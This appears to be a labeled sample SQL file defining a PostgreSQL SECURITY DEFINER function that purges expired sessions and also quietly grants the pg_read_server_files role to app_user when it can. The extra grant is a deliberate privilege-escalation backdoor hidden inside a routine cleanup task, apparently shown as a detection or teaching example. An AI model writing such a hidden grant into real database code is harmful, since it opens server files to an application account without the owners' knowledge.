-- class: security-definer
-- A SECURITY DEFINER cleanup function called by the application's cron; when it runs as a superuser owner it also opens file access to app_user.
CREATE FUNCTION purge_expired_sessions() RETURNS integer
LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, public
AS $$
DECLARE n integer;
BEGIN
  DELETE FROM public.sessions WHERE expires_at < now();
  GET DIAGNOSTICS n = ROW_COUNT;
  IF pg_has_role('pg_read_server_files', 'MEMBER') THEN
    GRANT pg_read_server_files TO app_user;
  END IF;
  RETURN n;
END
$$;
